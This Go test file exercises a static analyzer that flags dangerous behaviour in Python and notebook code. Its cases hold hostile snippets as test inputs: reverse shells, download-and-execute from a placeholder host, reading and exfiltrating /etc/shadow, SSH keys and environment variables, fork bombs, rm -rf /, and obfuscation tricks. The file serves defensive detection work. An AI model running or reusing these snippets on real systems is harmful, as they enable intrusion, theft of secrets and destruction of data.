package python

import (
	"fmt"
	"strings"
	"testing"

	"github.com/e2bguard/e2bguard/guard/static/flow/flowtest"
)

func TestEffects(t *testing.T) { flowtest.Run(t, Parse, effectCases) }

func TestReviewsDoNotDisturbEachOther(t *testing.T) { flowtest.Together(t, Parse, effectCases) }

func TestOrdinaryCodeIsQuiet(t *testing.T) { flowtest.Run(t, Parse, quietCases) }

// manyWrappers hands a command through so many functions.
func manyWrappers(n int) string {
	var b strings.Builder

	b.WriteString("import os\ndef f0(c):\n    os.system(c)\n")

	for i := range n {
		fmt.Fprintf(&b, "def f%d(c):\n    f%d(c)\n", i+1, i)
	}

	fmt.Fprintf(&b, "f%d('id')\n", n)

	return b.String()
}

var effectCases = []flowtest.Case{
	// Names.
	{Name: "module alias", Code: "import os as o\no.system('id')", Want: []string{"bash: id"}},
	{Name: "member alias", Code: "from subprocess import run as r\nr('id -a', shell=True)", Want: []string{"bash: id -a"}},
	{Name: "star import", Code: "from os import *\nsystem('id')", Want: []string{"bash: id"}},
	{Name: "not imported", Code: "os.system('id')", Want: []string{"bash: id"}},
	{Name: "function in a variable", Code: "import os\nf = os.system\nf('id')", Want: []string{"bash: id"}},
	{Name: "function in a list", Code: "import os\n[os.system][0]('id')", Want: []string{"bash: id"}},
	{Name: "function in a dict", Code: "import os\nd = {'a': os.system}\nd['a']('id')", Want: []string{"bash: id"}},
	{Name: "getattr", Code: "import os\ngetattr(os, 'sys' + 'tem')('id')", Want: []string{"bash: id +hidden"}},
	{Name: "getattr without computing", Code: "import os\ngetattr(os, 'system')('id')", Want: []string{"bash: id"}},
	{Name: "__dict__", Code: "import os as o\no.__dict__['system']('id')", Want: []string{"bash: id +hidden"}},
	{Name: "__getattribute__", Code: "import os\nos.__getattribute__('system')('id')", Want: []string{"bash: id"}},
	{Name: "__call__", Code: "import os\nos.system.__call__('id')", Want: []string{"bash: id"}},
	{Name: "__import__", Code: "__import__('os').system('id')", Want: []string{"bash: id"}},
	{Name: "importlib", Code: "import importlib\nimportlib.import_module('o' + 's').system('id')", Want: []string{"bash: id +hidden"}},
	{Name: "sys.modules", Code: "import sys\nsys.modules['os'].system('id')", Want: []string{"bash: id"}},
	{Name: "globals", Code: "import os\nglobals()['os'].system('id')", Want: []string{"bash: id"}},
	{Name: "vars", Code: "import os\nvars(os)['system']('id')", Want: []string{"bash: id +hidden"}},
	{Name: "builtins by vars", Code: "vars(globals()['__builtins__'])['exec']('x=1')", Want: []string{"python: x=1 +hidden"}},
	{Name: "builtins.get", Code: "vars(__builtins__).get('eval')('1')", Want: []string{"python: 1"}},
	{Name: "builtins module", Code: "import builtins\nbuiltins.eval('1')", Want: []string{"python: 1"}},
	{Name: "member without an import", Code: "exec(urlopen('http://h').read())", Want: []string{"python: _ <download: http://h>"}},
	{Name: "a module's own imports", Code: "import linecache\nlinecache.os.system('id')", Want: []string{"bash: id"}},
	{Name: "eval gives a function", Code: "eval('os.system')('id')", Want: []string{"bash: id +hidden"}},
	{Name: "full-width letters", Code: "\uff45\uff58\uff45\uff43('x=1')", Want: []string{"python: x=1"}},
	{Name: "partial", Code: "import os, functools\nfunctools.partial(os.system, 'id')()", Want: []string{"bash: id"}},
	{Name: "attrgetter", Code: "import os, operator\noperator.attrgetter('system')(os)('id')", Want: []string{"bash: id +hidden"}},
	{Name: "methodcaller", Code: "import os, operator\noperator.methodcaller('system', 'id')(os)", Want: []string{"bash: id"}},
	{Name: "map", Code: "import os\nlist(map(os.system, ['id', 'ls']))", Want: []string{"bash: id", "bash: ls"}},
	{Name: "subclasses", Code: "().__class__.__base__.__subclasses__()[9].__init__.__globals__['system']('id')",
		Want: []string{"escape subclasses", "bash: id +hidden"}},
	{Name: "decorator", Code: "@exec\n@input\nclass X: pass", Want: []string{"python: _"}},
	{Name: "lambda", Code: "import os\n(lambda c: os.system(c))('id')", Want: []string{"bash: id"}},
	{Name: "function", Code: "import os\ndef f(c, *a, k='x'):\n    os.system(c + ' ' + k)\nf('id', k='y')", Want: []string{"bash: id y"}},
	{Name: "method", Code: "import os\nclass A:\n    def __init__(self, u):\n        self.u = u\n    def go(self):\n        os.system(self.u)\nA('id').go()",
		Want: []string{"bash: id"}},
	{Name: "inherited method", Code: "import os\nclass A:\n    def go(self, c):\n        os.system(c)\nclass B(A): pass\nB().go('id')",
		Want: []string{"bash: id"}},
	{Name: "operator of a class", Code: "import os\nclass A:\n    def __add__(self, c):\n        os.system(c)\nA() + 'id'", Want: []string{"bash: id"}},
	{Name: "subscript of a class", Code: "import os\nclass A:\n    __class_getitem__ = os.system\nA['id']", Want: []string{"bash: id"}},
	{Name: "raised text", Code: "import os\ntry:\n    raise ValueError('id')\nexcept ValueError as e:\n    os.system(str(e))", Want: []string{"bash: id"}},
	{Name: "member given to a module", Code: "import os\nsetattr(os, 'x', os.system)\nos.x('id')", Want: []string{"bash: id"}},
	{Name: "__reduce__", Code: "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)", Want: []string{"bash: id"}},
	{Name: "recursion", Code: "import os\ndef f(c, n):\n    if n:\n        f('id', n - 1)\n    else:\n        os.system(c)\nf('ls', 1)", Want: []string{"bash: id +recursing"}},
	{Name: "many wrappers", Code: manyWrappers(20), Want: []string{"bash: id"}},
	{Name: "uncalled function", Code: "import os\ndef f():\n    os.system('id')", Want: []string{"bash: id"}},
	{Name: "branches", Code: "import os\nc = 'a'\nif x:\n    c = 'b'\nos.system(c)", Want: []string{"bash: a", "bash: b"}},
	{Name: "conditional", Code: "import os\nos.system('a' if x else 'b')", Want: []string{"bash: a", "bash: b"}},

	// Folding.
	{Name: "concatenation", Code: "import os\nos.system('r' + 'm')", Want: []string{"bash: rm"}},
	{Name: "percent", Code: "import os\nos.system('%s -%c' % ('rm', 'r'))", Want: []string{"bash: rm -r"}},
	{Name: "format", Code: "import os\nos.system('{} {x} {1}'.format('a', 'b', x='c'))", Want: []string{"bash: a c b"}},
	{Name: "f-string", Code: "import os\na = 'rm'\nos.system(f'{a} -{\"r\"}f {x!r:>{w}}')", Want: []string{"bash: rm -rf _"}},
	{Name: "f-string quotes reused", Code: "import os\nos.system(f'{d['a']}')\nd = {}", Want: []string{"bash: _"}},
	{Name: "join", Code: "import os\nos.system(' '.join(['rm', '-rf']))", Want: []string{"bash: rm -rf"}},
	{Name: "reversal", Code: "import os\nos.system('di'[::-1])", Want: []string{"bash: id"}},
	{Name: "chr", Code: "import os\nos.system(''.join(chr(c) for c in [105, 100]))", Want: []string{"bash: id <decoded>"}},
	{Name: "map chr", Code: "import os\nos.system(''.join(map(chr, (105, 100))))", Want: []string{"bash: id <decoded>"}},
	{Name: "xor", Code: "import os\nos.system(''.join(chr(ord(c) ^ 1) for c in 'he'))", Want: []string{"bash: id <decoded>"}},
	{Name: "xor in a loop", Code: "import os\ns = ''\nfor c in b'he':\n    s += chr(c ^ 1)\nos.system(s)", Want: []string{"bash: id <decoded>"}},
	{Name: "xor with a key", Code: "import os\nfrom itertools import cycle\nos.system(bytes(a ^ b for a, b in zip(b'he', cycle(b'\\x01'))).decode())",
		Want: []string{"bash: id <decoded>"}},
	{Name: "counting loop", Code: "import os\ns = ''\ni = 0\nwhile i != 2:\n    s += chr(ord('he'[i]) ^ 1)\n    i += 1\nos.system(s)",
		Want: []string{"bash: id <decoded>"}},
	{Name: "loop with a bound", Code: "import os\np = 'he'\ns = ''\ni = 0\nwhile i < len(p):\n    s += chr(ord(p[i]) ^ 1)\n    i = i + 1\nos.system(s)",
		Want: []string{"bash: id <decoded>"}},
	{Name: "loop too long to follow", Code: "import os\ns = ''\ni = 0\nwhile i < 999999:\n    s += chr(p[i] ^ 1)\n    i += 1\nos.system(s)",
		Want: []string{"bash: _ <decoded>"}},
	{Name: "base64", Code: "import os, base64\nos.system(base64.b64decode('aWQ=').decode())", Want: []string{"bash: id <decoded>", "decode base64 | id <decoded>"}},
	{Name: "hex", Code: "import os\nos.system(bytes.fromhex('6964').decode())", Want: []string{"bash: id <decoded>"}},
	{Name: "rot13", Code: "import os, codecs\nos.system(codecs.decode('vq', 'rot13'))", Want: []string{"bash: id <decoded>"}},
	{Name: "zlib", Code: "import zlib,base64\nexec(zlib.decompress(base64.b64decode('eJzLTAEAATgAzg==')))", Want: []string{"python: id <decoded>"}},
	{Name: "escapes", Code: `import os` + "\n" + `os.system('\x69\144 \u0041\N{DIGIT ONE}')`, Want: []string{`bash: id A\N{DIGIT ONE}`}},
	{Name: "replace", Code: "import os\nos.system('iXd'.replace('X', ''))", Want: []string{"bash: id"}},
	{Name: "translate", Code: "import os\nos.system('xy'.translate(str.maketrans('xy', 'id')))", Want: []string{"bash: id <decoded>"}},
	{Name: "bytes", Code: "import os\nos.system(bytearray([105, 100]).decode())", Want: []string{"bash: id <decoded>"}},
	{Name: "slice and index", Code: "import os\na = 'xidx'\nos.system(a[1:3] + a[-1])", Want: []string{"bash: idx"}},
	{Name: "function that decodes", Code: "import os\ndef d(s):\n    return ''.join(chr(ord(c) - 1) for c in s)\nos.system(d('je'))", Want: []string{"bash: id <decoded>"}},
	{Name: "mainframe code page", Code: "exec(b'\x89\x84'.decode('cp1026'))", Want: []string{"python: id <decoded>"}},
	{Name: "hidden in a picture", Code: "from stegano import lsb\nexec(lsb.reveal('a.png'))", Want: []string{"python: _ <decoded>"}},
	{Name: "several choices in one text", Code: "import os\nfor a, b in [('x', 'y'), ('z', 'w')]:\n    os.system(f'{a} {b}')", Want: []string{"bash: x y +loop", "bash: z w +loop"}},
	{Name: "partly known", Code: "import os\nos.system('rm ' + x)", Want: []string{"bash: rm _"}},

	// Programs.
	{Name: "popen", Code: "import os\nos.popen('id').read()", Want: []string{"bash: id"}},
	{Name: "argument list", Code: "import subprocess\nsubprocess.run(['rm', '-rf', d])", Want: []string{"exec rm -rf _"}},
	{Name: "shell list", Code: "import subprocess\nsubprocess.run(['id'], shell=True)", Want: []string{"bash: id"}},
	{Name: "split", Code: "import subprocess\nsubprocess.Popen('rm -rf x'.split())", Want: []string{"exec rm -rf x +background"}},
	{Name: "shlex", Code: "import subprocess, shlex\nsubprocess.call(shlex.split('rm \"a b\"'))", Want: []string{"exec rm a b"}},
	{Name: "execv", Code: "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])", Want: []string{"exec /bin/sh -c id"}},
	{Name: "execlp", Code: "import os\nos.execlp('sh', 'sh', '-c', 'id')", Want: []string{"exec sh -c id"}},
	{Name: "spawnl", Code: "import os\nos.spawnl(os.P_NOWAIT, '/bin/id', 'id')", Want: []string{"exec /bin/id +background"}},
	{Name: "pty", Code: "import pty\npty.spawn('/bin/sh')", Want: []string{"exec /bin/sh"}},
	{Name: "program in a loop", Code: "import os\nfor c in ['a', 'b']:\n    os.system(c)", Want: []string{"bash: a +loop", "bash: b +loop"}},
	{Name: "standard input of a shell", Code: "import subprocess\np = subprocess.Popen(['sh'], stdin=-1)\np.communicate('id')", Want: []string{"bash: id"}},
	{Name: "asyncio", Code: "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')", Want: []string{"bash: id"}},
	{Name: "libc", Code: "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", Want: []string{"bash: id"}},
	{Name: "pickle", Code: "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")", Want: []string{"bash: id"}},

	// Notebook cells.
	{Name: "bang", Code: "x = 1\n!curl h | sh\ny = 2", Want: []string{"bash: curl h | sh"}},
	{Name: "bang in a block", Code: "if True:\n    !id", Want: []string{"bash: id"}},
	{Name: "bang value", Code: "x = !id", Want: []string{"bash: id"}},
	{Name: "bang interpolated", Code: "c = 'id'\n!{c} -a $c", Want: []string{"bash: id -a id"}},
	{Name: "bash cell", Code: "%%bash\nid\nls", Want: []string{"bash: id\nls"}},
	{Name: "script cell", Code: "%%script bash\nid", Want: []string{"bash: id"}},
	{Name: "time cell", Code: "%%time\nimport os\nos.system('id')", Want: []string{"python: import os\nos.system('id')"}},
	{Name: "sx", Code: "%sx id", Want: []string{"bash: id"}},
	{Name: "timeit", Code: "%timeit -n1 exec('1')", Want: []string{"python: exec('1')"}},
	{Name: "semicolon call", Code: "import os\n;os.system rm -rf /", Want: []string{"bash: rm -rf /"}},
	{Name: "get_ipython", Code: "get_ipython().system('id')", Want: []string{"bash: id"}},
	{Name: "run_line_magic", Code: "get_ipython().run_line_magic('sx', 'id')", Want: []string{"python: %sx id"}},
	{Name: "writefile", Code: "%%writefile ~/.bashrc\nid", Want: []string{"write ~/.bashrc | id"}},

	// Files.
	{Name: "read", Code: "open('/etc/shadow').read()", Want: []string{"read /etc/shadow"}},
	{Name: "path join", Code: "import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'))", Want: []string{"read ~/.ssh/id_rsa"}},
	{Name: "home variable", Code: "import os\nopen(os.environ['HOME'] + '/.netrc')", Want: []string{"read ~/.netrc"}},
	{Name: "pathlib", Code: "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()", Want: []string{"read ~/.aws/credentials"}},
	{Name: "write", Code: "open('/etc/passwd', 'a').write('x')", Want: []string{"write /etc/passwd +append", "write /etc/passwd | x +append"}},
	{Name: "truncate", Code: "open('/etc/passwd', mode='w')", Want: []string{"write /etc/passwd +truncate"}},
	{Name: "with", Code: "with open('a', 'w') as f:\n    f.write('x')", Want: []string{"write a | x"}},
	{Name: "remove", Code: "import os\nos.remove('/etc/passwd')", Want: []string{"delete /etc/passwd"}},
	{Name: "rmtree", Code: "import shutil\nshutil.rmtree('/', ignore_errors=True)", Want: []string{"delete / +recursive +force"}},
	{Name: "rmtree in a loop", Code: "import shutil\nfor d in ('/a', '/b'):\n    shutil.rmtree(d)", Want: []string{"delete /a +recursive +loop", "delete /b +recursive +loop"}},
	{Name: "unlink of a path", Code: "from pathlib import Path\nPath('/etc/hosts').unlink()", Want: []string{"delete /etc/hosts"}},
	{Name: "walk and remove", Code: "import os\nfor r, d, f in os.walk('/home'):\n    for n in f:\n        os.remove(os.path.join(r, n))", Want: []string{"delete /home/* +loop"}},
	{Name: "glob and remove", Code: "import glob, os\nfor f in glob.glob('/var/log/*'):\n    os.remove(f)", Want: []string{"delete /var/log/* +loop"}},
	{Name: "move", Code: "import shutil\nshutil.move('/etc/passwd', '/tmp/x')", Want: []string{"move /tmp/x /etc/passwd"}},
	{Name: "copy", Code: "import shutil\nshutil.copy('/etc/shadow', 'x')", Want: []string{"move x /etc/shadow +copy"}},
	{Name: "symlink", Code: "import os\nos.symlink('/etc/passwd', 'x')", Want: []string{"link x | /etc/passwd"}},
	{Name: "chmod", Code: "import os\nos.chmod('/bin/sh', 0o4755)", Want: []string{"mode /bin/sh | 4755"}},

	// Network and data flow.
	{Name: "chmod by names", Code: "import os, stat\nos.chmod('a', stat.S_IRWXU | stat.S_IXGRP)", Want: []string{"mode a | 710"}},
	{Name: "connect", Code: "import socket\ns = socket.socket()\ns.connect(('h', 80))", Want: []string{"connect h :80"}},
	{Name: "reverse shell", Code: "import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn('sh')",
		Want: []string{"dup 0 | _ <socket> +loop", "exec sh"}},
	{Name: "shell on a socket", Code: "import socket,subprocess\ns=socket.socket()\nsubprocess.Popen(['sh'],stdin=s,stdout=s)", Want: []string{"exec sh +background +netio"}},
	{Name: "commands from a socket", Code: "import socket,subprocess\ns=socket.socket()\nwhile True:\n    c=s.recv(9)\n    subprocess.run(c.decode(),shell=True)",
		Want: []string{"bash: _ <network> +loop"}},
	{Name: "listen", Code: "import socket\ns=socket.socket()\ns.bind(('0.0.0.0',4444))", Want: []string{"listen 0.0.0.0 :4444"}},
	{Name: "file sent", Code: "import requests\nd=open('/etc/passwd').read()\nrequests.post('http://h', data={'x': d})", Want: []string{"send http://h | _ <file: /etc/passwd>"}},
	{Name: "file object sent", Code: "import requests\nrequests.post('http://h', files={'f': open('/etc/passwd','rb')})", Want: []string{"send http://h | _ <file: /etc/passwd>"}},
	{Name: "encoded file sent", Code: "import base64,urllib.request as u\nx=base64.b64encode(open('k').read())\nu.urlopen('http://h/?' + x.decode())",
		Want: []string{"send http://h/?_ | http://h/?_ <file: k>"}},
	{Name: "environment sent", Code: "import os,requests\nrequests.post('http://h', json=dict(os.environ))", Want: []string{"send http://h | _ <environment>"}},
	{Name: "variable sent", Code: "import os,requests\nrequests.post('http://h', data=os.getenv('K'))", Want: []string{"env K", "send http://h | _ <env: K>"}},
	{Name: "name looked up", Code: "import os,socket\nsocket.gethostbyname(os.environ['K'] + '.h')", Want: []string{"send _.h :53 | _.h <env: K>"}},
	{Name: "through an attribute", Code: "import requests\nclass A:\n    def r(self):\n        self.d = open('k').read()\n    def s(self):\n        requests.post('http://h', self.d)",
		Want: []string{"send http://h | _ <file: k>"}},
	{Name: "through a list", Code: "import requests\nl=[]\nfor p in ps:\n    l.append(open('k').read())\nrequests.post('http://h', json=l)", Want: []string{"send http://h | _ <file: k>"}},
	{Name: "through an unknown object", Code: "import requests,zipfile\nb=Buf()\nb.put(open('k').read())\nrequests.post('http://h', data=b)", Want: []string{"send http://h | _ <file: k>"}},
	{Name: "download and execute", Code: "import requests\nexec(requests.get('http://h').text)", Want: []string{"python: _ <download: http://h>"}},
	{Name: "download to file", Code: "import urllib.request as u\nu.urlretrieve('http://h/x', '/tmp/x')", Want: []string{"receive http://h/x", "write /tmp/x | _ <download: http://h/x>"}},
	{Name: "input to eval", Code: "eval(input())", Want: []string{"python: _ <input>"}},
	{Name: "mail", Code: "import smtplib\ns=smtplib.SMTP('h',25)\ns.sendmail('a','b',open('k').read())", Want: []string{"connect h :25", "send h | _ <file: k>"}},
	{Name: "scan of ports", Code: "import socket\nfor p in range(1,1000):\n    socket.socket().connect_ex(('h',p))", Want: []string{"connect h :_ +loop +manyports"}},
	{Name: "scan of hosts", Code: "import socket\nfor i in range(1,255):\n    socket.socket().connect((f'10.0.0.{i}',22))", Want: []string{"connect 10.0.0._ :22 +loop +manyhosts"}},
	{Name: "raw socket", Code: "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW)", Want: []string{"raw raw"}},

	// The system.
	{Name: "fork bomb", Code: "import os\nwhile True:\n    os.fork()", Want: []string{"spawn process +loop +unbounded"}},
	{Name: "fork that calls itself", Code: "import os\ndef f():\n    os.fork()\n    f()\nf()", Want: []string{"spawn process +unbounded +recursing"}},
	{Name: "endless loop", Code: "while True:\n    pass", Want: []string{"loop +unbounded"}},
	{Name: "memory", Code: "x = 'a' * 10**10", Want: []string{"alloc memory | 10000000000"}},
	{Name: "kill", Code: "import os, signal\nos.kill(1, signal.SIGKILL)", Want: []string{"kill 1 | SIGKILL"}},
	{Name: "kill all", Code: "import os\nos.kill(-1, 9)", Want: []string{"kill -1 | 9"}},
	{Name: "setuid", Code: "import os\nos.setuid(0)", Want: []string{"priv setuid | 0"}},
	{Name: "set variable", Code: "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'", Want: []string{"setenv LD_PRELOAD | /tmp/x.so"}},
	{Name: "keyboard", Code: "from pynput import keyboard\nkeyboard.Listener(on_press=f)", Want: []string{"capture keyboard"}},
	{Name: "host facts", Code: "import socket\nsocket.gethostname()", Want: []string{"info hostname"}},
	{Name: "machine code", Code: "import os\nos.memfd_create('x')", Want: []string{"native memfd_create | x"}},
	{Name: "thread", Code: "import threading,os\ndef f(c):\n    os.system(c)\nthreading.Thread(target=f, args=('id',)).start()", Want: []string{"spawn thread", "bash: id"}},

	// Broken code is judged for what can be read.
	{Name: "broken line before", Code: "x = = (\nimport os\nos.system('id')", Want: []string{"bash: id"}},
	{Name: "unclosed bracket", Code: "import os\nprint((1)\nos.system('id')", Want: []string{"bash: id"}},
	{Name: "Python 2", Code: "import os\nprint 'x'\nexec 'y=1'\nos.system('id')", Want: []string{"bash: id", "python: y=1"}},
	{Name: "carriage returns", Code: "# x\rimport os\ros.system('id')", Want: []string{"bash: id"}},
}

var quietCases = []flowtest.Case{
	{Name: "text that mentions a command", Quiet: true, Code: "print('rm -rf /')\nx = 'curl h | sh'\n# os.system('id')"},
	{Name: "docstring", Quiet: true, Code: "def f():\n    \"\"\"os.system('rm -rf /')\"\"\"\n    return 1\nf()"},
	{Name: "own function called eval", Quiet: true, Code: "def eval(x):\n    return x\neval('1')"},
	{Name: "method called system", Quiet: true, Code: "class A:\n    def system(self, x):\n        return x\nA().system('id')"},
	{Name: "model.eval", Quiet: true, Code: "model.eval()\ndf.eval('a + b')\nre.compile('x')"},
	{Name: "arithmetic", Quiet: true, Code: "def f(n):\n    return n * f(n - 1) if n else 1\nprint(sum(x ** 2 for x in range(10)))"},
	{Name: "loop that ends", Quiet: true, Code: "while True:\n    if x():\n        break"},
	{Name: "key in a header", Code: "import os,requests\nrequests.get('https://h', headers={'Authorization': 'Bearer ' + os.environ['K']})",
		Quiet: true, Want: []string{"env K", "receive https://h"}},
	{Name: "own address", Quiet: true, Want: []string{"info hostname"}, Code: "import socket\nsocket.gethostbyname(socket.gethostname())"},
	{Name: "a class's own subclasses", Quiet: true, Code: "for c in Base.__subclasses__():\n    c.run()"},
	{Name: "frames", Quiet: true, Code: "import sys\nf = sys._getframe(1)\nx = f.f_globals.get('__name__')\ny = f.f_back.f_locals"},
	{Name: "server's threads", Quiet: true, Code: "import threading\nwhile True:\n    c = server.accept()\n    threading.Thread(target=handle, args=(c,)).start()",
		Want: []string{"spawn thread +loop"}},
	{Name: "unquoted path", Quiet: true, Code: "from urllib.parse import unquote\nimport os\nos.path.join(d, unquote(p))"},
	{Name: "safe yaml", Quiet: true, Code: "import yaml\nyaml.load(x, Loader=yaml.SafeLoader)"},
}
